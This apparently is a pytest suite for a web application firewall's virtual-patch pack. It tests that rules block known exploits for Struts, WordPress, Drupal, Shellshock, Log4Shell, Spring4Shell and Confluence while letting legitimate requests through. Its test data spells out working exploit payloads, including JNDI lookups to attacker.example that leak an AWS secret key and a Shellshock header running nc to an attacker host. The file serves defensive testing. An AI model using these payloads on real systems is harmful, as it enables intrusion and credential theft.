"""Each virtual patch blocks its exploit (public payload shapes) and lets the same endpoint's
legitimate requests through, alone and beside the OWASP CRS 3.3.4, through Yoroi's engine."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest

from yoroi.modules.ips.crs import DEBIAN_CRS, RuleSet, data_dir, patch_files
from yoroi.modules.ips.engine import Engine
from yoroi.modules.ips.types import Decision, Outcome, RuleMatch

UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
FIRST_PATCH_ID, LAST_PATCH_ID = 4_800_000, 4_849_999


@dataclass(frozen=True)
class Request:
    """One HTTP request as a client sends it."""

    method: str
    uri: str
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""

    def all_headers(self) -> list[tuple[str, str]]:
        names = {name.lower() for name, _ in self.headers}
        base = [("Host", "www.example.org"), ("User-Agent", UA), ("Accept", "*/*"),
                ("Accept-Language", "en-GB,en;q=0.8")]
        out = [(n, v) for n, v in base if n.lower() not in names] + list(self.headers)
        if self.body:
            out.append(("Content-Length", str(len(self.body))))
        return out


@dataclass(frozen=True)
class Verdict:
    decision: Decision | None
    matches: tuple[RuleMatch, ...]

    @property
    def blocked(self) -> bool:
        return self.decision is not None and self.decision.outcome is Outcome.BLOCK

    @property
    def patch_ids(self) -> set[int]:
        return {m.rule_id for m in self.matches if FIRST_PATCH_ID <= m.rule_id <= LAST_PATCH_ID}


def inspect(engine: Engine, request: Request) -> Verdict:
    """Feed ``request`` to the engine as a front end does, phase by phase."""
    inspection = engine.begin(("192.0.2.10", 40000), ("127.0.0.1", 8080))
    decision = inspection.request_headers(request.method, request.uri, "HTTP/1.1",
                                          request.all_headers())
    if decision is None:
        if request.body:
            inspection.request_body(request.body)
        decision = inspection.request_end()
    return Verdict(decision, inspection.close())


def fired(verdict: Verdict, expected: int | tuple[int, ...]) -> bool:
    """Whether the expected patch rule (or one of them) took part in the block."""
    wanted = expected if isinstance(expected, tuple) else (expected,)
    return bool(verdict.patch_ids & set(wanted))


def get(uri: str, *headers: tuple[str, str]) -> Request:
    return Request("GET", uri, headers)


def post(uri: str, content_type: str, body: bytes | str, *headers: tuple[str, str]) -> Request:
    data = body.encode() if isinstance(body, str) else body
    return Request("POST", uri, (("Content-Type", content_type), *headers), data)


def post_json(uri: str, doc: object) -> Request:
    return post(uri, "application/json", json.dumps(doc))


def post_form(uri: str, body: str) -> Request:
    return post(uri, "application/x-www-form-urlencoded", body)


def multipart(uri: str, parts: list[tuple[str, str | None, bytes]]) -> Request:
    boundary = "----yoroiBoundary7MA4YWxkTrZu0gW"
    chunks = []
    for name, filename, content in parts:
        disposition = f'form-data; name="{name}"'
        if filename is not None:
            disposition += f'; filename="{filename}"'
        head = f"--{boundary}\r\nContent-Disposition: {disposition}\r\n"
        if filename is not None:
            head += "Content-Type: application/octet-stream\r\n"
        chunks.append(head.encode("latin-1") + b"\r\n" + content + b"\r\n")
    body = b"".join(chunks) + f"--{boundary}--\r\n".encode()
    return post(uri, f"multipart/form-data; boundary={boundary}", body)


def pack_only(scratch: Path) -> RuleSet:
    """Yoroi's engine base, the patch pack and the body checks: no CRS setup, no CRS rules."""
    empty = scratch / "crs-setup.conf"
    empty.write_text("")
    return RuleSet(engine_config=data_dir() / "modsecurity.conf", crs_setup=empty,
                   crs_rules=(), patches=patch_files(data_dir() / "patches"),
                   body_checks=data_dir() / "body-checks.conf")


@pytest.fixture(scope="module")
def pack_engine(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    """Yoroi's engine base and the virtual-patch pack only: each patch must stand alone."""
    return Engine(pack_only(tmp_path_factory.mktemp("crs")))


@pytest.fixture(scope="module")
def crs_engine() -> Iterator[Engine]:
    """The default deployment: Debian's CRS 3.3.4 at paranoia level 1 with the pack."""
    if not (DEBIAN_CRS / "rules").is_dir():
        pytest.skip("Debian's modsecurity-crs is not installed (apt-get install modsecurity-crs)")
    yield Engine(RuleSet.from_crs(DEBIAN_CRS), paranoia=1)


# --- public payload shapes ---------------------------------------------------------------

S2_045 = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2."
    "ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2."
    "ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
    "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm))))."
    "(#cmd='id').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds))."
    "(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2."
    "ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io."
    "IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"
)
S2_045_HEADER = ("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']."
                 "addHeader('X-Test','Kaboom')}.multipart/form-data")

S2_052 = """<map>
  <entry>
    <jdk.nashorn.internal.objects.NativeString>
      <flags>0</flags>
      <value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">
        <dataHandler>
          <dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">
            <is class="javax.crypto.CipherInputStream">
              <cipher class="javax.crypto.NullCipher">
                <serviceIterator class="javax.imageio.spi.FilterIterator">
                  <iter class="javax.imageio.spi.FilterIterator">
                    <iter class="java.util.Collections$EmptyIterator"/>
                    <next class="java.lang.ProcessBuilder">
                      <command><string>touch</string><string>/tmp/pwned</string></command>
                      <redirectErrorStream>false</redirectErrorStream>
                    </next>
                  </iter>
                  <filter class="javax.imageio.ImageIO$ContainsFilter">
                    <method><class>java.lang.ProcessBuilder</class><name>start</name></method>
                    <name>foo</name>
                  </filter>
                  <next class="string">foo</next>
                </serviceIterator>
              </cipher>
            </is>
          </dataSource>
        </dataHandler>
      </value>
    </jdk.nashorn.internal.objects.NativeString>
  </entry>
</map>"""
# The same gadget chain with the class names hidden behind character references.
S2_052_ENTITIES = ('<map><entry><next class="java.lang.Proc&#101;ssBuilder"><command>'
                   "<string>id</string></command></next></entry></map>")

CONFLUENCE_OGNL = ('${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime()'
                   '.exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.'
                   'ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}')

SPRING4SHELL = "&".join(
    f"class.module.classLoader.resources.context.parent.pipeline.first.{key}={value}"
    for key, value in (("pattern", "%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter("
                                   "%22pwd%22)))%7B%20%7D%20%25%7Bsuffix%7Di"),
                       ("suffix", ".jsp"), ("directory", "webapps/ROOT"),
                       ("prefix", "tomcatwar"), ("fileDateFormat", ""))
)

HEADER_LOOKUP = (4800601, 4800603)  # the JNDI spelling or the nested lookup, whichever reads it
BODY_LOOKUP = (4800602, 4800604)
Expected = int | tuple[int, ...]  # the patch rule that must fire (or one of several)

LOG4SHELL = [
    "${jndi:ldap://attacker.example:1389/a}",
    "${jndi:rmi://attacker.example/Exploit}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}",
    "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://attacker.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}",
    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}",
    "${j${::-n}d${::-}i:ldap://attacker.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
    "${${lower:${upper:j}}ndi:ldap://attacker.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}",
    "${jnd${upper:\u0131}:ldap://attacker.example/a}",
    "${JnDi:LdAp://attacker.example/a}",
    "${jndi:ldap://127.0.0.1#attacker.example:1389/a}",  # CVE-2021-45046
    "${${::-${::-$${::-j}}}}",  # CVE-2021-45046/45105 recursion
]


def _struts() -> list[tuple[str, Request, Expected]]:
    s2_046 = f"{S2_045}\x00b"
    return [
        ("S2-045 %{ in Content-Type", post("/struts2-showcase/index.action", S2_045, "x"),
         4800201),
        ("S2-045 ${ in Content-Type", get("/index.action", ("Content-Type",
                                                            "$" + S2_045[1:])), 4800201),
        ("S2-045 addHeader probe", get("/index.action", ("Content-Type", S2_045_HEADER)),
         4800201),
        ("S2-046 filename", multipart("/doUpload.action", [("upload", S2_045, b"x")]),
         4800202),
        ("S2-046 filename with NUL", multipart("/doUpload.action",
                                               [("upload", s2_046, b"x")]), 4800202),
        ("S2-052 XStream", post("/struts2-rest-showcase/orders/3", "application/xml", S2_052),
         4800301),
        ("S2-052 by extension", post("/orders/3.xml", "text/plain", S2_052), 4800301),
        ("S2-052 entities", post("/orders/3", "application/xml", S2_052_ENTITIES), 4800301),
    ]


def _wordpress() -> list[tuple[str, Request, Expected]]:
    change = {"title": "Hacked", "content": '<a href="https://attacker.example/x.exe">Update</a>'}
    return [
        ("id in query", post_json("/wp-json/wp/v2/posts/1234?id=1234abc", change), 4800401),
        ("rest_route", post_json("/index.php?rest_route=/wp/v2/posts/1234&id=1234abc", change),
         4800401),
        ("rest_route encoded", post_json("/?rest_route=%2Fwp%2Fv2%2Fposts%2F1234&id=1234x",
                                         change), 4800401),
        ("id in JSON", post_json("/wp-json/wp/v2/posts/1234", {"id": "1234abc", **change}),
         4800401),
        ("id in form", post_form("/wp-json/wp/v2/pages/7", "id=7+or+1&title=x"), 4800401),
        ("id as array", post_form("/wp-json/wp/v2/posts/1234?id[]=1234abc", "title=x"),
         4800401),
        ("newline after digits", post_json("/wp-json/wp/v2/posts/1234?id=1234%0Aabc", change),
         4800401),
        ("method override", get("/wp-json/wp/v2/posts/1234?id=1234abc&_method=POST"), 4800401),
    ]


def _drupal() -> list[tuple[str, Request, Expected]]:
    d8 = ("/user/register?element_parents=account/mail/%23value&ajax_form=1"
          "&_wrapper_format=drupal_ajax")
    d8_body = ("form_id=user_register_form&_drupal_ajax=1&mail%5B%23post_render%5D%5B%5D=exec"
               "&mail%5B%23type%5D=markup&mail%5B%23markup%5D=id")
    d7 = ("/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23type%5D=markup"
          "&name%5B%23markup%5D=id")
    lazy = "mail%5B%23lazy_builder%5D%5B0%5D=exec&mail%5B%23lazy_builder%5D%5B1%5D%5B%5D=id"
    dest = ("/?q=node/1/delete&destination=node?q%5B%2523post_render%5D%5B%5D=passthru%26q"
            "%5B%2523type%5D=markup%26q%5B%2523markup%5D=id")
    return [
        ("Drupal 8 #post_render", post_form(d8, d8_body), 4800501),
        ("Drupal 8 element_parents alone", post_form(d8, "form_id=user_register_form"),
         4800502),
        ("Drupal 8 #lazy_builder", post_form("/user/register?ajax_form=1", lazy), 4800501),
        ("Drupal 7 user/password", post_form(
            d7, "form_id=user_pass&_triggering_element_name=name&_triggering_element_value="),
         4800501),
        ("Drupal 7 double-encoded", post_form("/?q=user/password",
                                              "name%5B%2523post_render%5D%5B%5D=passthru"),
         4800501),
        ("Drupal 7 destination", post_form(dest, "form_id=node_delete_confirm"), 4800503),
    ]


def _shellshock() -> list[tuple[str, Request, Expected]]:
    cgi = "/cgi-bin/status"
    return [
        ("User-Agent", get(cgi, ("User-Agent", "() { :; }; echo; /bin/cat /etc/passwd")),
         4800101),
        ("Referer CVE-2014-6278", get(cgi, ("Referer", "() { _; } >_[$($())] { id; }")),
         4800101),
        ("Cookie", get(cgi, ("Cookie", '() { :;}; /bin/bash -c "nc attacker.example 4444"')),
         4800101),
        ("custom header CVE-2014-7169", get(cgi, ("X-Forwarded-For", "() { (a)=>\\' id")),
         4800101),
        ("query string", get(cgi + "?" + quote("() { :; }; /usr/bin/id", safe="")), 4800101),
        ("query argument", get(cgi + "?host=" + quote("() { :; }; id", safe="")), 4800101),
        ("form field", post_form("/cgi-bin/login.cgi", "user=" + quote("() { :;}; id")),
         4800102),
    ]


def _spring() -> list[tuple[str, Request, Expected]]:
    return [
        ("form body", post_form("/app/greeting", SPRING4SHELL), 4800701),
        ("query", get("/app/greeting?" + SPRING4SHELL), 4800701),
        ("capitalised", post_form("/app/greeting", "Class.Module.ClassLoader.URLs%5B0%5D=x"),
         4800701),
        ("classLoader (CVE-2010-1622 shape)", get("/app/greeting?class.classLoader.URLs[0]=x"),
         4800701),
        ("nested bean", post_form("/app/greeting",
                                  "user.class.module.classLoader.DefaultAssertionStatus=true"),
         4800701),
        ("multipart", multipart("/app/upload", [(
            "class.module.classLoader.resources.context.parent.pipeline.first.suffix", None,
            b".jsp")]), 4800701),
    ]


def _confluence() -> list[tuple[str, Request, Expected]]:
    encoded = quote(CONFLUENCE_OGNL, safe="")
    runtime = quote('${@java.lang.Runtime@getRuntime().exec("touch /tmp/r")}', safe="")
    forname = quote('${Class.forName("com.opensymphony.webwork.ServletActionContext")'
                    '.getMethod("getResponse",null).invoke(null,null)'
                    '.setHeader("X-Confluence","x")}', safe="")
    return [
        ("IOUtils payload", get(f"/{encoded}/"), 4800801),
        ("Runtime exec", get(f"/{runtime}/"), 4800801),
        ("Class.forName", get(f"/{forname}/"), 4800801),
        ("double-encoded", get("/" + quote(encoded, safe="") + "/"), 4800801),
        ("in a sub-path", get(f"/pages/{runtime}/x.action"), 4800801),
    ]


def _log4shell() -> list[tuple[str, Request, Expected]]:
    cases: list[tuple[str, Request, Expected]] = []
    for i, payload in enumerate(LOG4SHELL):
        cases += [
            (f"{i} User-Agent", get("/", ("User-Agent", payload)), HEADER_LOOKUP),
            (f"{i} X-Api-Version", get("/api", ("X-Api-Version", payload)), HEADER_LOOKUP),
            (f"{i} cookie", get("/", ("Cookie", f"session=abc; theme={payload}")), HEADER_LOOKUP),
            (f"{i} query", get("/search?q=" + quote(payload, safe="")), HEADER_LOOKUP),
            (f"{i} JSON", post_json("/api/login", {"username": payload, "password": "x"}),
             BODY_LOOKUP),
            (f"{i} form", post_form("/login", "username=" + quote(payload, safe="")), BODY_LOOKUP),
        ]
    payload = LOG4SHELL[0]
    escaped = payload.replace("$", "\\u0024").replace("{", "\\u007b")
    cases += [
        ("path", get("/" + quote(payload, safe="") + "/index.html"), HEADER_LOOKUP),
        ("double-encoded query", get("/?x=" + quote(quote(payload, safe=""), safe="")),
         HEADER_LOOKUP),
        ("Referer", get("/", ("Referer", f"https://www.example.org/{payload}")), HEADER_LOOKUP),
        ("JSON \\u escapes", post("/api/login", "application/json",
                                  '{"username": "' + escaped + '"}'), BODY_LOOKUP),
        ("XML entities", post("/soap", "text/xml",
                              "<user><name>&#36;&#123;jndi:ldap://attacker.example/a}</name></user>"),
         BODY_LOOKUP),
        ("multipart field", multipart("/upload", [("comment", None, payload.encode())]),
         BODY_LOOKUP),
        # A lookup in a file name is also an expression in a file name (S2-046): that patch
        # is loaded first and refuses it.
        ("upload filename", multipart("/upload", [("file", payload, b"data")]),
         (*BODY_LOOKUP, 4800202)),
    ]
    return cases


EXPLOITS = {
    "CVE-2017-5638/9805": _struts(),
    "CVE-2017-1001000": _wordpress(),
    "CVE-2018-7600": _drupal(),
    "CVE-2014-6271": _shellshock(),
    "CVE-2021-44228/45046": _log4shell(),
    "CVE-2022-22965": _spring(),
    "CVE-2022-26134": _confluence(),
}
EXPLOIT_CASES = [pytest.param(req, rule, id=f"{cve}: {name}")
                 for cve, cases in EXPLOITS.items() for name, req, rule in cases]

# --- the same endpoints, used honestly ---------------------------------------------------

LEGITIMATE = [
    # Struts 2: uploads and ordinary actions, REST XML
    multipart("/doUpload.action", [("upload", "Quarterly report (v2).pdf", b"%PDF-1.7 ...")]),
    post_form("/struts2-showcase/index.action", "name=O%27Brien&comment=It%27s+fine"),
    post("/struts2-rest-showcase/orders/3", "application/xml",
         "<order><clientName>Bob O'Neil</clientName><amount>3</amount></order>"),
    post("/struts2-rest-showcase/orders", "application/json",
         '{"clientName": "Bob", "note": "java.lang.String is fine in JSON"}'),
    multipart("/doUpload.action", [("template", None, b"${greeting}, world\n%{count} left"),
                                   ("upload", "notes.txt", b"hello")]),
    # WordPress REST API with numeric ids, and routes whose id is a string
    get("/wp-json/wp/v2/posts/1234"),
    get("/wp-json/wp/v2/posts/1234?_fields=id,title&context=view"),
    get("/wp-json/wp/v2/posts?per_page=10&page=2&search=it%27s"),
    get("/?rest_route=/wp/v2/posts/1234&id=1234"),
    post_json("/wp-json/wp/v2/posts/1234?id=1234", {"title": "Hello", "status": "publish"}),
    post_json("/wp-json/wp/v2/posts/1234", {"id": 1234, "title": "Don't panic"}),
    post_json("/wp-json/wp/v2/templates/twentytwentyfour//home",
              {"id": "twentytwentyfour//home", "content": "<!-- wp:paragraph -->"}),
    post_json("/wp-json/wp/v2/media/55", {"alt_text": "A cat", "caption": "Pip's nap"}),
    # Drupal forms and AJAX
    post_form("/user/register?element_parents=field_picture/widget/0&ajax_form=1"
              "&_wrapper_format=drupal_ajax",
              "form_id=user_register_form&name=o%27brien&mail=o.brien%40example.org"
              "&_triggering_element_name=field_picture_0_upload_button"),
    post_form("/?q=user/password", "name=alice&form_id=user_pass&op=E-mail+new+password"),
    get("/node/1/edit?destination=node/1%23comment-5"),
    # CGI with ordinary headers and code pasted in a field
    get("/cgi-bin/status?host=www.example.org", ("Referer", "https://www.example.org/")),
    post_form("/cgi-bin/paste.cgi",
              "lang=js&code=" + quote("const f = function () { return 1; };")),
    # Templates and shell snippets that are not Log4j lookups
    post_json("/api/templates", {"subject": "Hello ${first_name}", "price": "$5 {promo}"}),
    post_json("/api/ci", {"script": "echo ${HOME:-/root} ${A:-${B}} ${C:-${HOME:-x}}"}),
    get("/search?q=" + quote("${name} costs $10")),
    # Spring forms with a 'class' field
    post_form("/app/greeting", "name=O%27Brien&class=premium&module=billing"),
    get("/app/greeting?css.class=wide&classLoader=none"),
    # Confluence pages
    get("/display/ENG/Release+Notes"),
    get("/pages/viewpage.action?pageId=123456"),
    get("/rest/api/content?title=Budget%20%241000&spaceKey=FIN"),
    get("/download/attachments/123/diagram%20%7Bfinal%7D.png"),
]

# Realistic traffic of a small public server: JSON APIs, forms with apostrophes, WordPress
# REST calls, uploads.
BENIGN = [
    get("/"),
    get("/index.html", ("Cookie", "wordpress_test_cookie=WP%20Cookie%20check; theme=dark")),
    get("/assets/app.js?v=3.2.1", ("Referer", "https://www.example.org/")),
    post_json("/api/v1/orders", {"customer": "Seán O'Connor", "items": [
        {"sku": "AB-12", "qty": 2}, {"sku": "CD-34", "qty": 1}], "note": "Leave it by the door"}),
    post_json("/api/v1/users/42", {"name": "D'Arcy", "email": "darcy@example.org",
                                   "bio": "I'm a developer; I like C# & Go."}),
    post_form("/contact", "name=Mary+O%27Hara&email=mary%40example.org&message="
              + quote("Hi, I can't log in since Tuesday - what's wrong? Thanks!")),
    post_form("/comments", "author=Jo&text=" + quote("Rock 'n' roll isn't dead, it's here.")),
    get("/wp-json/wp/v2/posts?categories=3&per_page=5&_embed=1"),
    get("/wp-json/wp/v2/posts/99"),
    get("/wp-json/wp/v2/comments?post=99&order=asc"),
    post_json("/wp-json/wp/v2/posts/99", {"title": "Spring's here", "content": "<p>Hello</p>",
                                          "status": "draft"}),
    post_json("/wp-json/wp/v2/comments", {"post": 99, "content": "Nice post, isn't it?",
                                          "author_name": "Anne O'Neil"}),
    multipart("/wp-admin/async-upload.php", [("name", None, b"holiday.jpg"),
                                             ("async-upload", "holiday.jpg",
                                              b"\xff\xd8\xff\xe0JFIF\x00" + b"\x00" * 64)]),
    multipart("/upload", [("title", None, b"My CV"), ("file", "cv-2024.pdf", b"%PDF-1.4\n")]),
    get("/search?q=" + quote("don't stop believin'") + "&page=2"),
]


def test_pack_rules_carry_ids_in_the_yoroi_range() -> None:
    files = patch_files(data_dir() / "patches")
    assert len(files) >= 8
    text = "".join(p.read_text() for p in files)
    ids = [int(x) for x in re.findall(r"\bid:(\d+)", text)]
    assert len(ids) == len(set(ids))
    assert all(FIRST_PATCH_ID <= i <= LAST_PATCH_ID for i in ids)


def test_pack_loads_beside_the_crs_without_id_clashes(crs_engine: Engine) -> None:
    assert crs_engine.rule_count > 800


@pytest.mark.parametrize(("request_", "rule_id"), EXPLOIT_CASES)
def test_each_patch_blocks_its_exploit_on_its_own(pack_engine: Engine, request_: Request,
                                                  rule_id: Expected) -> None:
    verdict = inspect(pack_engine, request_)
    assert verdict.blocked, verdict.matches
    assert fired(verdict, rule_id), verdict.matches


@pytest.mark.parametrize(("request_", "rule_id"), EXPLOIT_CASES)
def test_each_patch_blocks_its_exploit_beside_the_crs(crs_engine: Engine, request_: Request,
                                                      rule_id: Expected) -> None:
    verdict = inspect(crs_engine, request_)
    assert verdict.blocked, verdict.matches
    assert fired(verdict, rule_id), verdict.matches


@pytest.mark.parametrize("request_", LEGITIMATE, ids=lambda r: f"{r.method} {r.uri[:60]}")
def test_patches_let_the_same_endpoints_legitimate_requests_through(
        pack_engine: Engine, request_: Request) -> None:
    verdict = inspect(pack_engine, request_)
    assert not verdict.blocked and not verdict.patch_ids, verdict.matches


@pytest.mark.parametrize("request_", LEGITIMATE + BENIGN, ids=lambda r: f"{r.method} {r.uri[:60]}")
def test_no_patch_fires_on_benign_traffic_beside_the_crs(crs_engine: Engine,
                                                         request_: Request) -> None:
    verdict = inspect(crs_engine, request_)
    assert not verdict.patch_ids, verdict.matches


@pytest.mark.parametrize("request_", BENIGN, ids=lambda r: f"{r.method} {r.uri[:60]}")
def test_benign_corpus_passes_crs_and_pack_at_paranoia_1(crs_engine: Engine,
                                                         request_: Request) -> None:
    verdict = inspect(crs_engine, request_)
    assert not verdict.blocked, verdict.matches


def test_a_match_names_the_cve_and_the_variable(pack_engine: Engine) -> None:
    verdict = inspect(pack_engine, get("/", ("X-Api-Version", LOG4SHELL[5])))
    match = next(m for m in verdict.matches if m.rule_id == 4800601)
    assert match.cve == "CVE-2021-44228"
    assert "yoroi/virtual-patch" in match.tags
    assert match.variable == "REQUEST_HEADERS:X-Api-Version"
    assert match.value_prefix is not None and len(match.value_prefix) <= 17


def test_detect_mode_reports_without_blocking(tmp_path: Path) -> None:
    engine = Engine(pack_only(tmp_path), mode="detect")
    verdict = inspect(engine, get("/", ("User-Agent", LOG4SHELL[0])))
    assert verdict.decision is not None and verdict.decision.outcome is Outcome.DETECT
    assert 4800601 in verdict.patch_ids
